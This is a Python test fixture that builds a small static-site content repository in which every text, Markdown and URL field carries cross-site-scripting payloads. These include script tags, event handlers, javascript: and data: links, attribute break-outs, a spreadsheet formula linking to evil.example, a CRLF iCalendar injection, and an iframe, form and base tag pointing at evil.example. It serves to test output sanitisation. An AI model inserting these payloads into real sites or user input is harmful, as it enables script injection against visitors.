"""A tiny content repository with script-injection attempts in every free-text field.

Plain text fields get :func:`payload` (tags, event handlers, attribute and ``</script>``
break-outs, a ``javascript:`` address, a spreadsheet formula and a line break that would
start a new iCalendar property); Markdown fields get :data:`MARKDOWN`; address fields get
URLs that try to break out of an attribute.
"""

from __future__ import annotations

import base64
from pathlib import Path

import yaml

from tests.site_helpers import pelican, shared

START_DAY = "2026-08-01"


def payload(field: str) -> str:
    return (
        f"{field}: <script>alert('{field}')</script><img src=x onerror=alert(1)>"
        "\"'><svg/onload=alert(2)></script><!-- javascript:alert(3) "
        "data:text/html,<script>alert(4)</script> {{ 7*7 }} \\u003c/script>"
        "\nX-INJECTED:1"
    )


def formula(field: str) -> str:
    return f'=HYPERLINK("https://evil.example/?{field}","click")'


EVIL_URL = "https://evil.example/\"><script>alert('url')</script>"

MARKDOWN = """Safe [link](https://ok.example/path) and text.

[js link](javascript:alert('md1')) [JS](JaVaScRiPt:alert(1)) [entity](&#106;avascript:alert(1))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<javascript:alert('autolink')>

![image](javascript:alert('img'))

<script>alert('md2')</script>
<img src=x onerror=alert('md3')>
<a href="https://ok.example" onclick="alert('md4')" style="color:red">styled</a>
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<div style="background:url(javascript:alert(1))">div</div>
<form action="https://evil.example/"><input name=x></form>

# Heading with <b onmouseover=alert(5)>tag</b>

<p>Pasted <i>from Word</i> <img src="x" onerror="alert('md6')"> <span style="color:red">red</span></p>
<svg onload="alert('md7')"><script>alert('md8')</script><a href="javascript:alert(9)">svg</a></svg>
<a href="jav&#x09;ascript:alert('md10')">tab link</a> <a href=" javascript:alert(11)">space</a>
<noscript><p title="</noscript><img src=x onerror=alert('md13')>"></noscript>
<object data="javascript:alert(14)"></object><embed src="javascript:alert(15)">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(16)">
<template><script>alert('md17')</script></template><p onclick="alert(18)" style="x">kept</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert('md12')></math>
"""


def _localised(field: str) -> dict[str, str]:
    return {"fi": payload(f"{field}-fi"), "ar": payload(f"{field}-ar")}


def organisation() -> dict:
    return {
        "name": _localised("org-name"),
        "description": {"en": MARKDOWN},
        "kind": "association",
        "level": "local",
        "municipalities": ["Espoo"],
        "languages": ["fi", "ar"],
        "networks": [payload("org-network")],
        "website": EVIL_URL,
        "address": {"street": payload("org-street"), "postal_code": "02100", "municipality": "049"},
        "logo": {"src": "images/logo.png", "alt": _localised("org-logo-alt")},
    }


def _place(field: str) -> dict:
    return {
        "name": _localised(f"{field}-name"),
        "municipality": "Espoo",
        "street_address": payload(f"{field}-street"),
        "postal_code": "02100",
        "coordinates": {"lat": 60.17, "lon": 24.8},
        "accessibility": {"step_free": True, "notes": _localised(f"{field}-access")},
    }


def activity(main: str = "fi") -> dict:
    return {
        "language": main,
        "title": {main: formula("title") + payload("title")},
        "summary": _localised("summary"),
        "description": {"en": MARKDOWN},
        "organisation": "xss-org",
        "forms": ["language-cafe"],
        "category": "support",
        "target_groups": ["everyone"],
        "languages": ["fi", "ar"],
        "locations": [_place("place")],
        "online": {"link": EVIL_URL, "instructions": _localised("online")},
        "schedule": {
            "season": {"start": START_DAY},
            "weekly": [{"weekday": "tue", "start": "17:00", "end": "19:00"}],
            "exceptions": [{"start": "2026-12-22", "reason": _localised("break")}],
            "sessions": [
                {"date": "2026-12-01", "start": "10:00", "end": "12:00", "note": _localised("s1")},
                {"date": "2026-12-08", "start": "10:00", "end": "12:00", "note": _localised("s2")},
            ],
            "note": _localised("schedule-note"),
        },
        "cost": {"free": False, "fee": _localised("fee")},
        "registration": {
            "required": True,
            "link": EVIL_URL,
            "email": "reg@xss.example",
            "instructions": _localised("registration"),
            "deadline": "2027-01-01",
        },
        "referrals": {"accepted": True, "instructions": _localised("referrals")},
        "contact": {"name": _localised("contact"), "email": "c@xss.example", "link": EVIL_URL},
        "images": [{"src": "images/photo.png", "alt": _localised("image-alt")}],
        "keywords": [payload("keyword"), formula("keyword")],
        "verified": "2026-11-01",
    }


def news(kind: str) -> dict:
    item = {
        "kind": kind,
        "title": formula(f"{kind}-title") + payload(f"{kind}-title"),
        "date": "2026-11-01",
        "summary": payload(f"{kind}-summary"),
        "link": EVIL_URL,
    }
    if kind == "event":
        item.update(
            start="2026-12-10 17:00",
            end="2026-12-10 19:00",
            place=_place("event-place"),
            online={"link": EVIL_URL, "instructions": _localised("event-online")},
            registration={"required": True, "instructions": _localised("event-registration")},
        )
    if kind == "job":
        item.update(employer=payload("employer"), deadline="2026-12-31")
    return item


#: A one-pixel PNG image.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def _write(path: Path, data: dict, body: str = "") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    front = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    path.write_text(f"---\n{front}---\n{body}", "utf-8")


def write(root: Path) -> Path:
    """Write the corpus under ``root/content``; return ``root``."""
    content = root / "content"
    _write(content / "organisations" / "xss-org.md", organisation(), MARKDOWN)
    _write(content / "activities" / "xss-activity.md", activity("fi"), MARKDOWN)
    _write(content / "activities" / "xss-arabic.md", activity("ar"), MARKDOWN)
    for kind in ("news", "event", "training", "job"):
        data = news(kind)
        if kind == "training":
            data.update(start="2026-12-11 09:00", online={"link": EVIL_URL})
        _write(content / "news" / f"xss-{kind}.md", data, MARKDOWN)
    page = {"title": payload("page-title"), "summary": payload("page-summary"), "menu": 1}
    for lang in ("fi", "sv", "en"):
        _write(content / "pages" / f"about.{lang}.md", page, MARKDOWN)
    images = content / "images"  # the files the listings name, so that they are shown
    images.mkdir(parents=True, exist_ok=True)
    for name in ("photo.png", "logo.png"):
        (images / name).write_bytes(PNG)
    return root


#: the bot the corpus's site sends its forms to: its pages carry the forms
BOT_URL = "https://bot.xss.example/submit"


def site(tmp_path_factory) -> Path:
    """The corpus built into a site with the bot's forms, once per test session."""

    def make(output: Path):
        return pelican(write(output.parent / "repo"), output, env={"TUKENA_BOT_URL": BOT_URL})

    return shared(tmp_path_factory, "xss", make).check().output
